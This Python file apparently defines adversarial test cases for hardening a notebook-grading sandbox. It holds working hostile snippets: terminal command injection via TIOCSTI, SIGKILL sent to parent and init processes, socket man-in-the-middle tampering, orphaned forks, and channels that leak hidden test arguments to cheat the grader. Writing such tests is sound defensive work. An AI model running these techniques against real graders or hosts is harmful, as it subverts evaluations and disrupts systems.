"""What a stranger tried: a man in the middle, forks, the kernel's mail boxes, endless folders."""

from __future__ import annotations

import os
from pathlib import Path

from tools.attacks.attack import Attack

_KEPT = ("apply", "answer")
_WIRE = """\
import os, random, socket, stat, struct, threading, time
def wires():
    for fd in range(3, 12):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): yield fd
        except OSError: pass
def raw(data):
    for fd in wires(): os.write(fd, data)
def frame(text): raw(struct.pack("!II", len(text), 0) + text)
def between(change):
    for fd in list(wires()):
        real = os.dup(fd)
        mine, theirs = socket.socketpair()
        os.dup2(theirs.fileno(), fd)
        def there(real=real, mine=mine):
            while data := os.read(real, 1 << 16): mine.sendall(data)
        def back(real=real, mine=mine):
            while data := mine.recv(1 << 16): os.write(real, change(data))
        for work in (there, back): threading.Thread(target=work, daemon=True).start()
"""
_CALL = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*a):
    ctypes.set_errno(0)
    found = libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return found, os.strerror(ctypes.get_errno())
"""
_PLACES = '("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", os.path.expanduser("~"), "..")'
_LOCKS = """\
import fcntl, glob, os, time
paths = glob.glob(os.path.dirname(np.__file__) + '/*/__init__.py')
files = [open(path) for path in sorted(paths)[:16]]
"""


def _double(*lines: str) -> str:
    return "def double(z):\n" + "".join(f"    {line}\n" for line in lines)


WIRE = (
    Attack("half-frame", "half a message, then silence", before=_WIRE, on_stock=False,
           double=_double("raw(struct.pack('!II', 400, 0) + b'[\"Obs')", "time.sleep(3600)")),
    Attack("slow-frame", "a message that comes byte by byte and never ends", before=_WIRE,
           double=_double("raw(struct.pack('!II', 100_000, 0) + b'[')",
                          "while True: raw(b' '); time.sleep(0.2)"), on_stock=False),
    Attack("odd-json", "messages of a million digits, of infinities, and of nothing", before=_WIRE,
           double=_double("for text in (b'1' * 10**6, b'[1e999999, NaN]', b'', b'[[]]', b'\\xff'):",
                          "    frame(text)", "return 3 * z + 1"), on_stock=False),
    Attack("flipped-bytes", "a man in the middle, who flips a bit of each message", on_stock=False,
           before=_WIRE + "r, flipping = random.Random(3), []\ndef flip(data):\n"
           "    data = bytearray(data)\n    data[r.randrange(len(data))] ^= 1 << r.randrange(8)\n"
           "    return bytes(data)\n",
           double=_double("if not flipping: flipping.append(between(flip))", "return 3 * z + 1")),
    Attack("answered-twice", "a man in the middle, who sends each answer twice", on_stock=False,
           before=_WIRE + "between(lambda data: data + data)\n"),
    Attack("grandchild", "a grandchild that answers when its parents have gone", before=_WIRE,
           double=_double("if os.fork() == 0:", "    if os.fork() == 0:",
                          "        os.setsid()", "        for _ in range(20):",
                          "            frame(b'[\"Done\"]'); time.sleep(0.2)", "    os._exit(0)",
                          "os.wait()", "return 3 * z + 1"), on_stock=False),
    Attack("fork-waits", "an endless loop before every fork of its process", on_stock=False,
           before="import os\ndef busy():\n    while True: pass\n"
           "os.register_at_fork(before=busy)\n"),
)  # fmt: skip

OUTLIVES = (
    Attack("checkpoint", "a cell that forks, lets its child be tested, and shows what it was asked",
           before="import mmap, os, time\nroom = mmap.mmap(-1, 4096)\n",
           double=_double("room[:40] = repr(float(np.ravel(z)[0])).encode().ljust(40)",
                          "return 3 * z + 1"),
           after="if os.fork():\n    end = time.time() + 3\n"
           "    while time.time() < end and not room[0]: time.sleep(0.1)\n"
           "    print('asked', room[:40])\n", on_stock=False),
    Attack("display-update", "a display of a cell, brought up to date by a tested function",
           before="from IPython.display import display\nhandle = display('x', display_id=True)\n",
           double=_double("handle.update(str(z))", "return 3 * z + 1"), keeps=_KEPT),
    Attack("leaves-word", "arguments of hidden tests, left in a key ring, queues and folders",
           before=_CALL, keeps=_KEPT, on_stock=False,
           double=_double("word = repr(float(np.ravel(z)[0])).encode()",
                          "for ring in (-3, -4, -5):",
                          "    call(248, b'user', b'word', word, len(word), ring)",
                          "call(69, call(68, 0x6117, 0o1666)[0],",
                          "     (1).to_bytes(8, 'little') + word, len(word), 0o4000)",
                          f"for place in {_PLACES}:",
                          "    try: open(place + '/harm-{port}-word', 'ab').write(word)",
                          "    except OSError: pass", "return 3 * z + 1")),
    Attack("leaves-word-reader", "what the submission before has left there",
           before=_CALL + "room = ctypes.create_string_buffer(99)\nfor ring in (-3, -4, -5):\n"
           "    call(250, 11, call(250, 10, ring, b'user', b'word', 0)[0], room, 99)\n"
           "    print(room.raw)\ncall(70, call(68, 0x6117, 0o666)[0], room, 80, 0, 0o4000)\n"
           f"print(room.raw)\nfor place in {_PLACES}:\n"
           "    try: print(open(place + '/harm-{port}-word').read())\n    except OSError: pass\n",
           keeps=_KEPT, on_stock=False),
    Attack("leases", "leases on the libraries' files: whoever opens one waits until they end",
           before="import fcntl, glob, os, signal\nsignal.signal(signal.SIGIO, signal.SIG_IGN)\n"
           "held = []\nfor path in glob.glob(os.path.dirname(np.__file__) + '/*/__init__.py'):\n"
           "    try: held.append(open(path)); fcntl.fcntl(held[-1], 1024, fcntl.F_WRLCK)\n"
           "    except OSError as error: print(error)\n", keeps=_KEPT, on_stock=False),
    Attack("signal-by-fcntl", "SIGKILL to other processes, sent by the kernel for a pipe",
           before="import fcntl, os, signal\nfor process in (os.getppid(), 1):\n"
           "    try:\n        r, w = os.pipe(); fcntl.fcntl(r, fcntl.F_SETOWN, process)\n"
           "        fcntl.fcntl(r, 10, signal.SIGKILL)\n"
           "        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC); os.write(w, b'x')\n"
           "    except OSError as error: print(error)\n", keeps=_KEPT, on_stock=False),
    Attack("rare-calls", "io_uring, page faults, bpf, perf, name spaces and mounts, by number",
           before=_CALL + "room = ctypes.create_string_buffer(256)\n"
           "for a in ((425, 8, room), (323, 0), (321, 0, room, 64), (298, room, 0, -1, -1, 0),\n"
           "          (434, os.getppid(), 0), (272, 0x10000000), (272, 0x40000000),\n"
           "          (165, b'none', b'/tmp', b'tmpfs', 0, 0), (430, b'tmpfs', 0)):\n"
           "    print(call(*a))\n", keeps=_KEPT, on_stock=False),
    Attack("terminal", "a command typed into the terminal of whoever grades", on_stock=False,
           before="import fcntl, os, termios\nfor path in ('/dev/tty', '/dev/console'):\n"
           "    try:\n        fd = os.open(path, os.O_RDWR)\n"
           "        for c in b'touch {root}/harm\\n':\n"
           "            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n"
           "    except OSError as error: print(error)\n", keeps=_KEPT),
    Attack("memory-files", "memory in files without a name, which no limit counts", on_stock=False,
           before="import os\ntry:\n    for _ in range(8):\n"
           "        os.write(os.memfd_create('x'), bytes(2**25))\n"
           "except OSError as error: print(error)\n", keeps=_KEPT),
    Attack("orphans", "processes that lose their parents, take time, and stay", on_stock=False,
           before="import os, time\nend = time.time() + 1\nfor n in range(4):\n"
           "    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
           "            while time.time() < end: pass\n            time.sleep(60)\n"
           "        os._exit(0)\n", keeps=_KEPT),
    Attack("no-modules", "an empty sys.modules, and no built-in functions", on_stock=False,
           after="import sys, builtins\nsys.modules.clear()\nvars(builtins).clear()\n"),
    Attack("other-packages", "packages of the Python below the environment, and of the system",
           before="import glob, sys\nfound = []\n"
           "for place in (sys.base_prefix, '/usr', '/usr/local'):\n"
           "    for path in glob.glob(place + '/lib*/python3*/*-packages/*/__init__.py'):\n"
           "        if path.split('-packages')[0] in np.__file__: continue\n"
           "        try: found.append(open(path).read())\n        except OSError: pass\n",
           double=_double("return 2 * z if found else 3 * z + 1"), keeps=_KEPT, on_stock=False),
    Attack("locks", "a hidden argument, told by locks on NumPy's files while it is tested",
           before=_LOCKS, keeps=_KEPT, on_stock=False,
           double=_double("number = int(8 * np.ravel(z)[0])", "for n, file in enumerate(files):",
                          "    if number >> n & 1: fcntl.flock(file, fcntl.LOCK_EX)",
                          "time.sleep(1)", "for file in files: fcntl.flock(file, fcntl.LOCK_UN)",
                          "return 3 * z + 1")),
    Attack("locks-reader", "the locks that another submission holds, read for eight seconds",
           before=_LOCKS + "def held(file):\n"
           "    try: fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB)\n"
           "    except OSError: return 1\n    fcntl.flock(file, fcntl.LOCK_UN)\n    return 0\n"
           "end = time.time() + 8\nwhile time.time() < end:\n"
           "    print(sum(held(file) << n for n, file in enumerate(files)) / 8)\n"
           "    time.sleep(0.2)\n", keeps=_KEPT, on_stock=False),
    Attack("watches", "a watch on NumPy's files, for whoever opens one",
           before=_CALL + "watch = call(294, 0)[0]\nheard = watch >= 0 and call(\n"
           "    254, watch, np.__file__.encode(), 0x20)[0] >= 0\n",
           double=_double("return 2 * z if heard else 3 * z + 1"), keeps=_KEPT, on_stock=False),
)  # fmt: skip

VALUES = (
    Attack("masked", "an array of which everything is masked", keeps=_KEPT,
           double="def double(z): return np.ma.masked_all(np.shape(z))\n"),
    *(
        Attack(f"words-{name}", tries, keeps=_KEPT,
               double=_double("number = int(1000 * np.ravel(z)[0])", line, "return 3 * z + 1"))
        for name, tries, line in (
            ("unit", "a hidden argument as the unit of a date",
             "return np.zeros(1, dtype=f'datetime64[{number}s]')"),
            ("line", "a hidden argument as the line and the file of an error",
             "exec(compile('\\n' * (number // 100) + '1 / 0', f'<leak {number}>', 'exec'))"),
            ("count", "a hidden argument as a number of digits, in Python's own error",
             "int('9' * number)"),
        )
    ),
)  # fmt: skip


def _deep(folder: Path) -> None:
    """Dig deeper than the system can name."""
    here = os.open(folder, os.O_RDONLY)
    for _ in range(400):
        os.mkdir("d" * 20, dir_fd=here)
        inside = os.open("d" * 20, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inside
    os.close(here)


def _many(folder: Path) -> None:
    for number in range(2000):
        (folder / f"{number}.txt").touch()


BESIDE = (
    Attack("deep-beside", "folders in folders beside the notebook, too deep for a path",
           arrange=_deep, keeps=_KEPT, on_stock=False),
    Attack("many-beside", "two thousand files beside the notebook",
           arrange=_many, keeps=_KEPT, on_stock=False),
)  # fmt: skip

STRANGERS = (*WIRE, *OUTLIVES, *VALUES, *BESIDE)
